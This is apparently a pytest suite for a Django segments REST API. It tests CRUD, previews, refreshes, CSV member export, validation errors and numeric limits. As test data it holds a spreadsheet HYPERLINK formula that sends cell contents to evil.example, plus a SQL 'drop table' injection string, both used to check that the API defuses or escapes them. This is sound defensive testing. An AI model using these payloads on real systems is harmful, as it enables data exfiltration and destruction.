"""The segments REST API (/api/v1/segments/): happy paths, every refusal with its path and
nothing written, hostile strings, streaming CSV, pinned query counts and the schema."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta

import pytest
import yaml
from django.core.exceptions import ValidationError as DjangoValidationError
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.tenancy import workspace_scope
from core.names import normalise_name
from segmentation import realtime, services
from segmentation.definition import MAX_COUNT, MAX_NUMBER, DefinitionInvalid, parse
from segmentation.dependencies import Change
from segmentation.models import Segment, SegmentStatus
from segmentation.services import refresh
from segmentation.services import segments as segments_service
from tests import factories
from tests.accounts.support import api, logged_in_client, state
from tests.segmentation.support import bought, crowd, members, reload, segment_rows, shopper
from tests.tracking import builders

BUYERS = {"type": "event", "event": "Order Completed", "window": {"since": "30d"}}
FIELDS = {
    "id",
    "name",
    "description",
    "tags",
    "definition",
    "static",
    "size",
    "status",
    "error",
    "refreshed_at",
    "next_refresh_at",
    "refresh_interval_seconds",
    "created_at",
    "updated_at",
}
PERSON_FIELDS = {"id", "user_id", "anonymous_ids", "user_ids", "traits", "first_seen", "last_seen"}


@pytest.fixture
def key(workspace):
    return factories.api_key(workspace)[1]


@pytest.fixture
def client():
    return Client()


def _call(client, key, method, url, body=None):
    return api(client, method, url, body, key=key)


def _segment(workspace, name="Buyers", definition=None, **kwargs):
    with workspace_scope(workspace):
        return services.segment_create(
            workspace=workspace, actor=None, name=name, definition=definition or BUYERS, **kwargs
        )


def _detail(segment):
    return reverse("segment-detail", kwargs={"pk": segment.pk})


# --- happy paths ----------------------------------------------------------------------------


def test_create_read_update_delete(workspace, client, key):
    created = _call(client, key, "POST", reverse("segment-list"), {"name": "Buyers", "definition": BUYERS})

    assert created.status_code == 201, created.content
    body = created.json()
    assert set(body) == FIELDS
    assert (body["name"], body["definition"], body["static"], body["size"], body["status"]) == (
        "Buyers",
        BUYERS,
        False,
        0,
        "pending",
    )
    assert (body["refreshed_at"], body["error"], body["refresh_interval_seconds"]) == (None, "", 300)
    url = reverse("segment-detail", kwargs={"pk": body["id"]})

    fetched = _call(client, key, "GET", url)
    patched = _call(
        client, key, "PATCH", url, {"name": "Recent buyers", "description": "30 days", "refresh_interval_seconds": 900}
    )
    deleted = _call(client, key, "DELETE", url)

    assert fetched.json() == body
    assert patched.status_code == 200
    assert (patched.json()["name"], patched.json()["description"], patched.json()["refresh_interval_seconds"]) == (
        "Recent buyers",
        "30 days",
        900,
    )
    assert deleted.status_code == 204
    with workspace_scope(workspace):
        assert not Segment.objects.exists()


def test_create_with_an_interval(workspace, client, key):
    response = _call(
        client,
        key,
        "POST",
        reverse("segment-list"),
        {"name": "Hourly", "definition": BUYERS, "refresh_interval_seconds": 3600},
    )
    refused = _call(
        client, key, "POST", reverse("segment-list"), {"name": "List", "static": True, "refresh_interval_seconds": 3600}
    )

    assert response.status_code == 201
    assert response.json()["refresh_interval_seconds"] == 3600
    assert refused.status_code == 400
    assert refused.json()["errors"] == {"refresh_interval_seconds": ["A static segment is never refreshed."]}
    with workspace_scope(workspace):
        assert list(Segment.objects.values_list("name", flat=True)) == ["Hourly"]


def test_create_a_static_segment(workspace, client, key):
    response = _call(client, key, "POST", reverse("segment-list"), {"name": "Beta testers", "static": True})

    assert response.status_code == 201
    assert (response.json()["static"], response.json()["definition"], response.json()["status"]) == (
        True,
        None,
        "fresh",
    )


def test_list_searches_orders_and_pins_its_queries(workspace, client, key, django_assert_num_queries):
    for name in ("Churn risk", "Buyers", "Big spenders"):
        _segment(workspace, name=name)
    _segment(factories.WorkspaceFactory(), name="Buyers elsewhere")
    url = reverse("segment-list")

    # key lookup + key touch, count, page
    with django_assert_num_queries(4):
        listed = _call(client, key, "GET", url)
    searched = _call(client, key, "GET", url + "?search=b&ordering=-name")
    refused = _call(client, key, "GET", url + "?ordering=colour")

    assert [s["name"] for s in listed.json()["results"]] == ["Big spenders", "Buyers", "Churn risk"]
    assert listed.json()["count"] == 3
    assert [s["name"] for s in searched.json()["results"]] == ["Buyers", "Big spenders"]
    assert refused.status_code == 400
    assert list(refused.json()["errors"]) == ["ordering"]


def test_preview_counts_and_samples_people(workspace, client, key):
    now = timezone.now()
    ann, _bob = shopper(workspace, "ann", traits={"plan": "pro"}), shopper(workspace, "bob")
    bought(workspace, ann, now - timedelta(days=3))
    before = state(workspace)

    response = _call(client, key, "POST", reverse("segment-preview"), {"definition": BUYERS, "sample_size": 5})

    assert response.status_code == 200
    body = response.json()
    assert body["count"] == 1
    assert [set(p) for p in body["sample"]] == [PERSON_FIELDS]
    assert (body["sample"][0]["user_id"], body["sample"][0]["anonymous_ids"], body["sample"][0]["traits"]) == (
        "ann",
        ["anon-ann"],
        {"plan": "pro"},
    )
    assert state(workspace) == before


def test_refresh_queues_or_waits(workspace, client, key, django_capture_on_commit_callbacks):
    ann = shopper(workspace, "ann")
    bought(workspace, ann, timezone.now() - timedelta(days=1))
    segment = _segment(workspace)
    url = reverse("segment-refresh", kwargs={"pk": segment.pk})

    with django_capture_on_commit_callbacks() as queued_callbacks:
        queued = _call(client, key, "POST", url)
    waited = _call(client, key, "POST", url + "?wait=true")
    bad = _call(client, key, "POST", url + "?wait=maybe")

    assert (queued.status_code, queued.json()) == (202, {"status": "queued"})
    assert len(queued_callbacks) == 1
    assert waited.status_code == 200
    assert (waited.json()["size"], waited.json()["status"]) == (1, "fresh")
    assert bad.status_code == 400
    assert bad.json()["errors"] == {"wait": ["Expected true or false, not 'maybe'."]}


def test_members_list_pins_queries_and_shows_entry_time(workspace, client, key, django_assert_num_queries):
    now = timezone.now()
    people = [shopper(workspace, f"p{n}") for n in range(3)]
    for who in people:
        bought(workspace, who, now - timedelta(days=1))
    segment = _segment(workspace)
    with workspace_scope(workspace):
        services.segment_refresh(segment=segment, now=now)

    # key lookup + key touch, the segment, count, page, identities of the page
    with django_assert_num_queries(6):
        response = _call(client, key, "GET", reverse("segment-members", kwargs={"pk": segment.pk}))

    body = response.json()
    assert body["count"] == 3
    assert {p["user_id"] for p in body["results"]} == {"p0", "p1", "p2"}
    assert {p["entered_at"] for p in body["results"]} == {now.isoformat().replace("+00:00", "Z")}
    assert set(body["results"][0]) == PERSON_FIELDS | {"entered_at"}


def test_members_csv_streams_every_member(workspace, client, key):
    now = timezone.now()
    ann = shopper(workspace, "ann", traits={"name": 'Ann "the, buyer"'})
    anonymous = builders.person(workspace, anonymous_ids=("a-1", "a-2"))
    for who in (ann, anonymous):
        bought(workspace, who, now - timedelta(days=1))
    segment = _segment(workspace)
    with workspace_scope(workspace):
        services.segment_refresh(segment=segment, now=now)

    response = _call(client, key, "GET", reverse("segment-members-csv", kwargs={"pk": segment.pk}))

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == ["user_id", "anonymous_ids", "entered_at", "traits"]
    parsed = sorted((r[0], json.loads(r[1]), r[2], json.loads(r[3])) for r in rows[1:])
    assert parsed == [
        ("", ["a-1", "a-2"], now.isoformat(), {}),
        ("ann", ["anon-ann"], now.isoformat(), {"name": 'Ann "the, buyer"'}),
    ]


# Cells a spreadsheet would run as formulas (OWASP, CSV Injection), and their defused form.
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1", "-2", "@x", "\tx", "\rx"]


def test_members_csv_defuses_formulas(workspace, client, key):
    # Given members whose user id starts like a formula, and one that only holds such characters later
    now = timezone.now()
    for text in [*FORMULAS, "a=b-c"]:
        bought(workspace, shopper(workspace, text, traits={"name": text}), now - timedelta(days=1))
    segment = _segment(workspace)
    with workspace_scope(workspace):
        services.segment_refresh(segment=segment, now=now)

    # When the members are exported through the API
    response = _call(client, key, "GET", reverse("segment-members-csv", kwargs={"pk": segment.pk}))

    # Then each formula-like cell starts with a quote, the rest is as it was, traits are still JSON
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(row[0] for row in rows[1:]) == sorted(["'" + text for text in FORMULAS] + ["a=b-c"])
    assert sorted(json.loads(row[3])["name"] for row in rows[1:]) == sorted([*FORMULAS, "a=b-c"])


def test_static_members_change_through_the_api(workspace, client, key):
    shopper(workspace, "ann"), shopper(workspace, "bob")
    with workspace_scope(workspace):
        static = services.segment_create(workspace=workspace, actor=None, name="Beta", definition=None, static=True)
    url = reverse("segment-members", kwargs={"pk": static.pk})

    response = _call(client, key, "POST", url, {"add": ["ann", "bob", "ghost"]})
    second = _call(client, key, "POST", url, {"remove": ["bob"]})

    assert response.json() == {"added": 2, "removed": 0, "unknown": ["ghost"], "size": 2}
    assert second.json() == {"added": 0, "removed": 1, "unknown": [], "size": 1}
    assert members(static) == {"ann"}


def test_history_per_day(workspace, client, key):
    now = timezone.now()
    ann, bob = shopper(workspace, "ann"), shopper(workspace, "bob")
    bought(workspace, ann, now - timedelta(minutes=5))
    segment = _segment(workspace)
    with workspace_scope(workspace):
        services.segment_refresh(segment=segment, now=now - timedelta(minutes=2))
        bought(workspace, bob, now - timedelta(minutes=1))
        services.segment_refresh(segment=segment, now=now)

    response = _call(client, key, "GET", reverse("segment-history", kwargs={"pk": segment.pk}) + "?days=7")
    bad = _call(client, key, "GET", reverse("segment-history", kwargs={"pk": segment.pk}) + "?days=0")

    assert response.status_code == 200
    assert response.json() == [{"date": now.date().isoformat(), "size": 2, "entered": 2, "exited": 0}]
    assert bad.status_code == 400
    assert bad.json()["errors"] == {"days": ["A whole number of days from 1 to 365, not '0'."]}


# --- refusals: every validation class, at save and at preview, nothing written -----------------


def _deep(levels: int) -> dict:
    node: dict = {"type": "trait", "key": "plan", "operator": "is_set"}
    for _ in range(levels):
        node = {"type": "and", "conditions": [node]}
    return node


INVALID = [
    pytest.param({"type": "cohort"}, "definition.type", id="unknown-type"),
    pytest.param(
        {
            "type": "and",
            "conditions": [BUYERS, {"type": "event", "event": "X", "count": {"operator": "most", "value": 1}}],
        },
        "definition.conditions[1].count.operator",
        id="unknown-count-operator",
    ),
    pytest.param(
        {"type": "trait", "key": "plan", "operator": "resembles", "value": "x"},
        "definition.operator",
        id="unknown-operator",
    ),
    pytest.param(
        {"type": "trait", "key": "age", "operator": "gt", "value": "old"}, "definition.value", id="value-type"
    ),
    pytest.param(
        {"type": "event", "event": "X", "window": {"since": "7 days"}}, "definition.window.since", id="duration"
    ),
    pytest.param(
        {"type": "event", "event": "X", "window": {"since": "7d", "until": "30d"}}, "definition.window", id="window"
    ),
    pytest.param({"type": "event", "event": "X", "windw": {"since": "7d"}}, "definition.windw", id="unknown-field"),
    pytest.param({"type": "event"}, "definition.event", id="missing-field"),
    pytest.param({"type": "trait", "key": "a\u0000b", "operator": "is_set"}, "definition.key", id="nul"),
    pytest.param(
        {
            "type": "or",
            "conditions": [{"type": "or", "conditions": [{"type": "trait", "key": "k", "operator": "is_set"}] * 4}]
            * 50,
        },
        "definition",
        id="too-many-nodes",
    ),
    pytest.param(_deep(9), "definition" + ".conditions[0]" * 8, id="too-deep"),
    pytest.param({"type": "segment", "segment": 999999}, "definition.segment", id="missing-segment"),
    pytest.param(
        {
            "type": "and",
            "conditions": [
                BUYERS,
                {
                    "type": "sequence",
                    "steps": [{"event": "Product Viewed"}, {"event": "Product Added"}, {"event": "Order Completed"}],
                    "within": "3d",
                    "completed": False,
                    "dropped_after": 3,
                },
            ],
        },
        "definition.conditions[1].dropped_after",
        id="dropped-after-the-last-step",
    ),
    pytest.param(["not", "an", "object"], "definition", id="not-an-object"),
]


def _expected(definition, key):
    try:
        parse(definition, segment_exists=lambda pk: False)
    except DefinitionInvalid as error:
        found = {(f"definition.{e.path}" if e.path else "definition"): e.message for e in error.errors}
    else:
        raise AssertionError("the case is valid")
    assert key in found, found
    return found


@pytest.mark.parametrize(("definition", "path"), INVALID)
def test_invalid_definitions_are_refused_at_save_and_preview_naming_the_path(workspace, client, key, definition, path):
    expected = _expected(definition, path)
    before = state(workspace)

    saved = _call(client, key, "POST", reverse("segment-list"), {"name": "Bad", "definition": definition})
    previewed = _call(client, key, "POST", reverse("segment-preview"), {"definition": definition})

    for response in (saved, previewed):
        assert response.status_code == 400, response.content
        body = response.json()
        assert body["code"] == "invalid"
        assert {k: v[0] for k, v in body["errors"].items()} == expected
    assert state(workspace) == before


# --- numbers at the edge of what storage and evaluation hold -----------------------------------

MAX = MAX_NUMBER
LARGEST_FLOAT = 9223372036854774784.0  # the largest float within MAX (2**63 - 1024)
ORDERS = {"type": "event", "event": "Order Completed"}


def _in_and(node: dict) -> dict:
    return {"type": "and", "conditions": [node]}


def _aggregate(function: str, operator: str, value) -> dict:
    return {
        "type": "aggregate",
        "event": "Order Completed",
        "key": "revenue",
        "function": function,
        "operator": operator,
        "value": value,
    }


# Each just past a limit, with the path the answer names and its message.
PAST_THE_LIMITS = [
    pytest.param({**ORDERS, "count": {"operator": "gte", "value": MAX_COUNT + 1}}, "count.value", id="count"),
    pytest.param({**ORDERS, "count": {"operator": "gte", "value": 10**20}}, "count.value", id="count-1e20"),
    pytest.param(
        {**ORDERS, "count": {"operator": "between", "value": [0, MAX_COUNT + 1]}}, "count.value", id="count-between"
    ),
    pytest.param(_aggregate("sum", "gte", 1e20), "value", id="aggregate-1e20"),
    pytest.param(_aggregate("sum", "gte", MAX + 1), "value", id="aggregate"),
    pytest.param(_aggregate("avg", "lte", -(10**400)), "value", id="aggregate-huge"),
    pytest.param({"type": "trait", "key": "n", "operator": "gt", "value": MAX + 1}, "value", id="trait-gt"),
    pytest.param({"type": "trait", "key": "n", "operator": "between", "value": [0, 1e20]}, "value[1]", id="between"),
    pytest.param({"type": "trait", "key": "n", "operator": "in", "value": [-MAX - 1]}, "value[0]", id="in"),
    pytest.param({"type": "trait", "key": "n", "operator": "eq", "value": 2.0**63}, "value", id="eq-float"),
    pytest.param(
        {**ORDERS, "filters": [{"key": "revenue", "operator": "gte", "value": MAX + 1}]},
        "filters[0].value",
        id="event-filter",
    ),
    pytest.param({**ORDERS, "window": {"since": "36601d"}}, "window.since", id="window-days"),
    pytest.param({**ORDERS, "window": {"since": "0000-12-31T00:00:00Z"}}, "window.since", id="year-0"),
    pytest.param(
        {"type": "trait", "key": "t", "operator": "before", "value": "9999-12-31T23:59:59-00:01"},
        "value",
        id="past-year-9999",
    ),
    pytest.param(
        {"type": "sequence", "within": "5229w", "steps": [{"event": "Order Completed"}] * 2},
        "within",
        id="sequence-within",
    ),
    pytest.param(
        {"type": "regular", "event": "Order Completed", "period": "36601d", "periods": 1, "min_periods": 1},
        "period",
        id="regular-period",
    ),
    pytest.param({"type": "segment", "segment": MAX + 1}, "segment", id="segment-id"),
]


@pytest.mark.parametrize(("node", "path"), PAST_THE_LIMITS)
def test_numbers_past_what_storage_holds_are_refused_naming_the_path(workspace, client, key, node, path):
    definition = _in_and(node)
    expected = _expected(definition, f"definition.conditions[0].{path}")
    assert list(expected) == [f"definition.conditions[0].{path}"]
    before = state(workspace)

    saved = _call(client, key, "POST", reverse("segment-list"), {"name": "Too big", "definition": definition})
    previewed = _call(client, key, "POST", reverse("segment-preview"), {"definition": definition})

    for response in (saved, previewed):
        assert response.status_code == 400, response.content
        assert {k: v[0] for k, v in response.json()["errors"].items()} == expected
    assert state(workspace) == before


# Each just inside a limit, with the people it holds in the data below.
WITHIN_THE_LIMITS = {
    "count lte max": ({**ORDERS, "count": {"operator": "lte", "value": MAX_COUNT}}, {"big", "small", "none"}),
    "count between": ({**ORDERS, "count": {"operator": "between", "value": [0, MAX_COUNT]}}, {"big", "small", "none"}),
    "count gte max": ({**ORDERS, "count": {"operator": "gte", "value": MAX_COUNT}}, set()),
    "sum gte max": (_aggregate("sum", "gte", MAX), {"big"}),
    "min lte -max": (_aggregate("min", "lte", -MAX), {"small"}),
    "avg between": (_aggregate("avg", "between", [-MAX, MAX]), {"big", "small"}),
    "max gt float": (_aggregate("max", "gt", LARGEST_FLOAT), {"big"}),
    "sum gt tiny": (_aggregate("sum", "gt", 5e-324), {"big"}),
    "trait eq max": ({"type": "trait", "key": "n", "operator": "eq", "value": MAX}, {"big"}),
    "trait gte max": ({"type": "trait", "key": "n", "operator": "gte", "value": MAX}, {"big"}),
    "trait lt -float": ({"type": "trait", "key": "n", "operator": "lt", "value": -LARGEST_FLOAT}, {"small"}),
    "trait between": ({"type": "trait", "key": "n", "operator": "between", "value": [-MAX, MAX]}, {"big", "small"}),
    "trait in": ({"type": "trait", "key": "n", "operator": "in", "value": [MAX, -MAX]}, {"big", "small"}),
    "filter gte max": ({**ORDERS, "filters": [{"key": "revenue", "operator": "gte", "value": MAX}]}, {"big"}),
    "since a century": ({**ORDERS, "window": {"since": "36600d"}}, {"big", "small"}),
    "until a century": ({**ORDERS, "window": {"until": "5228w"}}, set()),
    "years 1 to 9999": (
        {**ORDERS, "window": {"since": "0001-01-01T00:00:00Z", "until": "9999-12-31T23:59:59.999999Z"}},
        {"big", "small"},
    ),
    "before 9999": (
        {"type": "trait", "key": "t", "operator": "before", "value": "9999-12-31T23:59:59.999999Z"},
        {"big"},
    ),
    "after year 1": ({"type": "trait", "key": "t", "operator": "after", "value": "0001-01-01T00:00:00Z"}, {"big"}),
    "regular century": (
        {"type": "regular", "event": "Order Completed", "period": "36600d", "periods": 1, "min_periods": 1},
        {"big", "small"},
    ),
    "sequence within century": (
        {
            "type": "sequence",
            "within": "878400h",
            "steps": [{"event": "Order Completed"}, {"event": "$any"}],
            "completed": False,
        },
        set(),
    ),
    "last within century": (
        {"type": "last_performed", "event": "Order Completed", "window": {"since": "52704000m"}},
        {"big", "small"},
    ),
}


def test_numbers_just_inside_the_limits_are_saved_and_evaluated_by_refresh_and_real_time(
    workspace, client, key, caplog
):
    # Given a segment per limit, saved through the API and refreshed while the workspace is empty
    segments = {}
    for name, (node, _) in WITHIN_THE_LIMITS.items():
        created = _call(client, key, "POST", reverse("segment-list"), {"name": name, "definition": _in_and(node)})
        assert created.status_code == 201, (name, created.content)
        with workspace_scope(workspace):
            segments[name] = Segment.objects.get(pk=created.json()["id"])
            services.segment_refresh(segment=segments[name])
    # and people whose numbers sit at the very edges
    now = timezone.now()
    big = shopper(workspace, "big", traits={"n": MAX, "t": "2026-01-01T00:00:00Z"})
    small = shopper(workspace, "small", traits={"n": -MAX})
    none = shopper(workspace, "none")
    bought(workspace, big, now - timedelta(days=1), revenue=MAX)
    bought(workspace, small, now - timedelta(days=1), revenue=-MAX)

    # When real time re-evaluates them (the path that read every stored definition back through orjson)
    with workspace_scope(workspace), caplog.at_level("INFO", logger="segmentation.realtime"):
        realtime.people_changes_apply(
            workspace=workspace, changes={p.pk: Change(everything=True) for p in (big, small, none)}
        )

    # Then every segment was evaluated, without an error, to the expected people
    assert [r.getMessage() for r in caplog.records] == []
    expected = {name: people for name, (_, people) in WITHIN_THE_LIMITS.items()}
    assert {name: members(segment) for name, segment in segments.items()} == expected
    # and a full refresh agrees
    with workspace_scope(workspace):
        for segment in segments.values():
            services.segment_refresh(segment=segment)
    assert {name: members(segment) for name, segment in segments.items()} == expected


def test_an_invalid_definition_is_refused_at_patch_and_nothing_changes(workspace, client, key):
    segment = _segment(workspace)
    before = state(workspace)

    response = _call(client, key, "PATCH", _detail(segment), {"name": "New", "definition": {"type": "cohort"}})

    assert response.status_code == 400
    assert list(response.json()["errors"]) == ["definition.type"]
    assert state(workspace) == before


def test_a_cycle_is_refused_at_patch(workspace, client, key):
    a = _segment(workspace, name="A")
    b = _segment(workspace, name="B", definition={"type": "segment", "segment": a.pk})
    before = state(workspace)

    response = _call(
        client,
        key,
        "PATCH",
        _detail(a),
        {"definition": {"type": "not", "condition": {"type": "segment", "segment": b.pk}}},
    )

    assert response.status_code == 400
    assert response.json()["errors"] == {
        "definition.condition.segment": [f"segment {b.pk} refers back to this segment: a cycle"]
    }
    assert state(workspace) == before


def test_another_workspaces_segment_cannot_be_referenced(workspace, client, key):
    foreign = _segment(factories.WorkspaceFactory(), name="Theirs")
    before = state()

    saved = _call(
        client,
        key,
        "POST",
        reverse("segment-list"),
        {"name": "Mine", "definition": {"type": "segment", "segment": foreign.pk}},
    )

    assert saved.status_code == 400
    assert saved.json()["errors"] == {"definition.segment": [f"segment {foreign.pk} does not exist in this workspace"]}
    assert state() == before


@pytest.mark.parametrize(
    ("method", "route", "body", "errors"),
    [
        ("POST", "segment-list", {"name": "X", "definition": BUYERS, "colour": "red"}, {"colour": ["Unknown field."]}),
        ("POST", "segment-list", {"name": 7, "definition": BUYERS}, {"name": ["Expected a string, got int."]}),
        ("POST", "segment-list", {"definition": BUYERS}, {"name": ["This field is required."]}),
        ("POST", "segment-list", {"name": "X"}, {"definition": ["A segment needs a definition (or static: true)."]}),
        (
            "POST",
            "segment-list",
            {"name": "X", "static": True, "definition": BUYERS},
            {"definition": ["A static segment has no definition: its members are uploaded."]},
        ),
        (
            "POST",
            "segment-list",
            {"name": "Taken", "definition": BUYERS},
            {"name": ["A segment named 'Taken' already exists in this workspace."]},
        ),
        ("POST", "segment-preview", {"definition": BUYERS, "limit": 3}, {"limit": ["Unknown field."]}),
        ("POST", "segment-preview", {}, {"definition": ["This field is required."]}),
        (
            "PATCH",
            "segment-detail",
            {"static": True},
            {"static": ["A segment cannot change between static and dynamic; create a new one."]},
        ),
        ("PATCH", "segment-detail", {"definition": None}, {"definition": ["This field may not be null."]}),
        (
            "PATCH",
            "segment-detail",
            {"name": "Taken"},
            {"name": ["A segment named 'Taken' already exists in this workspace."]},
        ),
        (
            "PATCH",
            "segment-detail",
            {"refresh_interval_seconds": 1},
            {"refresh_interval_seconds": ["Ensure this value is greater than or equal to 60."]},
        ),
        ("PATCH", "segment-detail", {"size": 5}, {"size": ["Unknown field."]}),
        (
            "POST",
            "segment-members",
            {"add": ["x"]},
            {"segment": ["Members of a dynamic segment follow its definition; only static segments take a list."]},
        ),
        ("POST", "segment-members", {"add": "ann"}, {"add": ['Expected a list of items but got type "str".']}),
        ("POST", "segment-members", {"add": [5]}, {"add[0]": ["Expected a user id (a string)."]}),
    ],
)
def test_bad_bodies_answer_400_naming_the_field_and_change_nothing(workspace, client, key, method, route, body, errors):
    _segment(workspace, name="Taken")
    segment = _segment(workspace, name="Target")
    url = (
        reverse(route, kwargs={"pk": segment.pk})
        if route != "segment-list" and route != "segment-preview"
        else reverse(route)
    )
    before = state(workspace)

    response = _call(client, key, method, url, body)

    assert response.status_code == 400, response.content
    assert response.json()["errors"] == errors
    assert state(workspace) == before


def test_deleting_a_referenced_segment_is_a_conflict(workspace, client, key):
    a = _segment(workspace, name="A")
    b = _segment(workspace, name="B", definition={"type": "segment", "segment": a.pk})
    before = state(workspace)

    response = _call(client, key, "DELETE", _detail(a))

    assert response.status_code == 409
    assert response.json() == {
        "detail": f"Segment 'A' is used by the definition of 'B' (id {b.pk}).",
        "code": "conflict",
    }
    assert state(workspace) == before


def test_session_without_csrf_token_cannot_create(workspace, owner):
    client = Client(enforce_csrf_checks=True)
    client.force_login(owner)
    before = state()

    response = api(client, "POST", reverse("segment-list"), {"name": "Sneaky", "static": True})

    assert response.status_code == 403
    assert "CSRF" in response.json()["detail"]
    assert state() == before


def test_a_member_session_creates_and_a_viewer_is_refused(workspace):
    member = logged_in_client(factories.member(workspace, role="member"))
    viewer = logged_in_client(factories.member(workspace, role="viewer"))

    made = api(member, "POST", reverse("segment-list"), {"name": "Mine", "static": True})
    refused = api(viewer, "POST", reverse("segment-list"), {"name": "Theirs", "static": True})
    read = api(viewer, "GET", reverse("segment-list"))

    assert made.status_code == 201
    assert refused.status_code == 403
    assert [s["name"] for s in read.json()["results"]] == ["Mine"]


# --- hostile strings --------------------------------------------------------------------------

HOSTILE = ["'; drop table tracking_person; --", "%s", "%(x)s", '"quoted"', "\\", "Ünïcødé ☃ \U0001d518 ✓", "k" * 10_000]


@pytest.mark.parametrize(
    "text", HOSTILE, ids=["sql", "percent-s", "percent-named", "quotes", "backslash", "unicode", "10kb"]
)
def test_hostile_names_keys_and_values_are_data(workspace, client, key, text):
    now = timezone.now()
    other = factories.WorkspaceFactory()
    match = shopper(workspace, "match", traits={text: text})
    miss = shopper(workspace, "miss", traits={text: "something else"})
    bought(workspace, miss, now - timedelta(days=1))
    name = text[:200]  # event names are at most 200 characters (tracking.Event.name)
    builders.event(workspace, match, name, at=now - timedelta(days=1), properties={text: text})
    theirs = shopper(other, "theirs", traits={text: text})
    builders.event(other, theirs, name, at=now - timedelta(days=1), properties={text: text})
    definition = {
        "type": "and",
        "conditions": [
            {"type": "trait", "key": text, "operator": "eq", "value": text},
            {"type": "event", "event": name, "filters": [{"key": text, "operator": "contains", "value": text}]},
        ],
    }

    previewed = _call(client, key, "POST", reverse("segment-preview"), {"definition": definition})
    created = _call(client, key, "POST", reverse("segment-list"), {"name": text[:200], "definition": definition})
    refreshed = _call(client, key, "POST", reverse("segment-refresh", kwargs={"pk": created.json()["id"]}) + "?wait=1")

    assert previewed.status_code == 200, previewed.content
    assert (previewed.json()["count"], [p["user_id"] for p in previewed.json()["sample"]]) == (1, ["match"])
    assert created.status_code == 201
    assert created.json()["definition"] == definition
    assert (refreshed.json()["size"], refreshed.json()["status"]) == (1, "fresh")
    with workspace_scope(workspace):
        assert members(Segment.objects.get(pk=created.json()["id"])) == {"match"}


# --- schema -------------------------------------------------------------------------------------


def test_the_schema_generates_without_warnings_and_describes_definitions(tmp_path, db):
    target = tmp_path / "schema.yaml"

    call_command("spectacular", "--fail-on-warn", "--file", str(target))

    schema = yaml.safe_load(target.read_text())
    definition = schema["components"]["schemas"]["SegmentDefinition"]
    kinds = {variant["properties"]["type"]["pattern"].strip("^()$") for variant in definition["oneOf"]}
    assert kinds == {
        "and",
        "or",
        "not",
        "trait",
        "event",
        "aggregate",
        "first_performed",
        "last_performed",
        "regular",
        "sequence",
        "segment",
    }
    create = schema["components"]["schemas"]["SegmentCreate"]["properties"]["definition"]
    assert "SegmentDefinition" in json.dumps(create)
    assert "/api/v1/segments/{id}/members.csv" in schema["paths"]


def test_a_failed_synchronous_refresh_answers_the_failed_segment(workspace, client, key, settings, monkeypatch):
    segment = _segment(workspace)
    monkeypatch.setattr(refresh, "_apply", lambda *a: (_ for _ in ()).throw(RuntimeError("relation vanished")))

    response = _call(client, key, "POST", reverse("segment-refresh", kwargs={"pk": segment.pk}) + "?wait=true")

    assert response.status_code == 200
    assert (response.json()["status"], response.json()["error"]) == (
        SegmentStatus.FAILED,
        "The refresh failed: relation vanished",
    )
    assert reload(segment).consecutive_failures == 1


def test_a_preview_beyond_its_timeout_answers_503(workspace, client, key, settings):
    settings.SEGMENT_PREVIEW_TIMEOUT_SECONDS = 0.001
    crowd(workspace)
    heavy = {
        "type": "not",
        "condition": {
            "type": "or",
            "conditions": [{"type": "trait", "key": f"k{i}", "operator": "contains", "value": "x"} for i in range(50)],
        },
    }

    response = _call(client, key, "POST", reverse("segment-preview"), {"definition": heavy})

    assert response.status_code == 503
    assert response.json() == {"detail": "Counting this segment took longer than 0.001 s.", "code": "timeout"}


# --- the definition's JSON Schema states the parser's limits ------------------------------------


def _variant_schema(kind: str) -> dict:
    from segmentation.serializers import DEFINITION_SCHEMA

    [found] = [v for v in DEFINITION_SCHEMA["oneOf"] if v["properties"]["type"]["pattern"] == f"^({kind})$"]
    return found["properties"]


def _parses(document: dict) -> bool:
    try:
        parse(document)
    except DefinitionInvalid:
        return False
    return True


def _at_and_beyond(bound: int, build) -> tuple[bool, bool]:
    return _parses(build(bound)), _parses(build(bound + 1))


def test_the_definition_schema_states_the_limits_the_parser_enforces():
    trait = {"type": "trait", "key": "plan", "operator": "is_set"}
    event = _variant_schema("event")
    regular = _variant_schema("regular")
    steps = _variant_schema("sequence")["steps"]
    conditions = _variant_schema("and")["conditions"]
    key = event["filters"]["items"]["properties"]["key"]
    values = event["filters"]["items"]["properties"]["value"]["anyOf"][-1]
    string = event["filters"]["items"]["properties"]["value"]["anyOf"][0]

    def weekly(periods: int, min_periods: int = 1) -> dict:
        return {"type": "regular", "event": "Visit", "period": "1d", "periods": periods, "min_periods": min_periods}

    def sequence(n: int) -> dict:
        return {"type": "sequence", "steps": [{"event": f"S{i}"} for i in range(n)], "within": "1d"}

    def filtered(**spec) -> dict:
        return {"type": "event", "event": "Visit", "filters": [{"key": "k", "operator": "eq", "value": 1, **spec}]}

    assert _at_and_beyond(conditions["maxItems"], lambda n: {"type": "and", "conditions": [trait] * n}) == (True, False)
    assert _parses({"type": "and", "conditions": [trait] * conditions["minItems"]})
    assert not _parses({"type": "and", "conditions": [trait] * (conditions["minItems"] - 1)})
    assert _at_and_beyond(
        event["filters"]["maxItems"], lambda n: {"type": "event", "event": "V", "filters": filtered()["filters"] * n}
    ) == (True, False)
    assert _at_and_beyond(regular["periods"]["maximum"], weekly) == (True, False)
    assert _at_and_beyond(regular["min_periods"]["maximum"], lambda n: weekly(n, n)) == (True, False)
    assert _at_and_beyond(steps["maxItems"], sequence) == (True, False)
    dropped_after = _variant_schema("sequence")["dropped_after"]
    last = steps["maxItems"]
    assert _at_and_beyond(
        dropped_after["maximum"], lambda k: {**sequence(last), "completed": False, "dropped_after": k}
    ) == (True, False)
    assert _parses({**sequence(2), "completed": False, "dropped_after": dropped_after["minimum"]})
    assert not _parses({**sequence(2), "completed": False, "dropped_after": dropped_after["minimum"] - 1})
    assert (_parses(sequence(steps["minItems"])), _parses(sequence(steps["minItems"] - 1))) == (True, False)
    assert _at_and_beyond(key["maxLength"], lambda n: filtered(key="k" * n)) == (True, False)
    assert _at_and_beyond(event["event"]["maxLength"], lambda n: {"type": "event", "event": "e" * n}) == (True, False)
    assert _at_and_beyond(string["maxLength"], lambda n: filtered(value="v" * n)) == (True, False)
